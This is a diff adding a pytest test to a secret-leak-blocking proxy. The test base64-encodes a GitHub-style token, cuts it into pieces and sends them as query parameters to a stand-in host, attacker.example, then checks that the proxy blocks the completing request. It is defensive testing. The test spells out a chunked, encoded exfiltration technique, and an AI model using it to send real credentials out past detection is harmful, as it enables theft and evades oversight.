@@ -10,11 +10,13 @@ over WebSocket messages. Each block is checked on both sides: the agent got 403
 
 from __future__ import annotations
 
+import base64
 import bz2
 import json
 import random
 import string
 from collections.abc import Iterator
+from urllib.parse import quote
 
 import httpx
 import pytest
@@ -111,6 +113,24 @@ def test_a_key_over_several_requests_blocks_the_completing_one_and_names_the_pie
     last = proxy.wait_for_audit(lambda r: r["path"].startswith("/q?i=6&"))
     assert last["verdict"] == "block" and "assembled" in last["rules"]
     assert first["flow_id"] in last["reason"] and last["flow_id"] in last["reason"]
+
+
+def test_a_key_base64_encoded_then_cut_over_requests_is_assembled(
+    client: httpx.Client, upstream: Upstream, proxy: ProxyProcess
+) -> None:
+    encoded = base64.b64encode(GITHUB.encode()).decode()
+    pieces = [encoded[i : i + 12] for i in range(0, len(encoded), 12)]
+    statuses = []
+    for n, piece in enumerate(pieces):
+        url = f"http://attacker.example:{upstream.plain_port}/b?i={n}&d={quote(piece, safe='')}"
+        statuses.append(client.get(url).status_code)
+        if statuses[-1] == 403:
+            break
+    # `ghp_` and 30 characters are 46 base64 characters: the fourth piece completes them.
+    assert statuses == [200] * 3 + [403]
+    assert len(upstream.received) == 3
+    last = proxy.wait_for_audit(lambda r: r["path"].startswith("/b?i=3&"))
+    assert last["rules"] == ["github_token", "assembled"]
 
 
 def test_a_key_over_websocket_messages_closes_the_socket(
